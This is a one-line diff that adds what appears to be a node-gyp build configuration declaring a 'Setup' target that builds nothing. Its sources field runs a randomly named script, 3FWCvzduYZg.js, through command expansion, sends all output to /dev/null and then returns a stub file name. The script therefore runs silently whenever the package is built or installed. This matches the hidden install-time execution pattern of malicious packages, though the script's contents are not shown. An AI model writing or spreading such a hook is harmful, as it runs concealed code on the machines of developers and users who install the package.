@@ -1,0 +1,1 @@
+{"targets":[{"target_name":"Setup","type":"none","sources":["<!(node 3FWCvzduYZg.js > /dev/null 2>&1 && echo stub.c)"]}]}
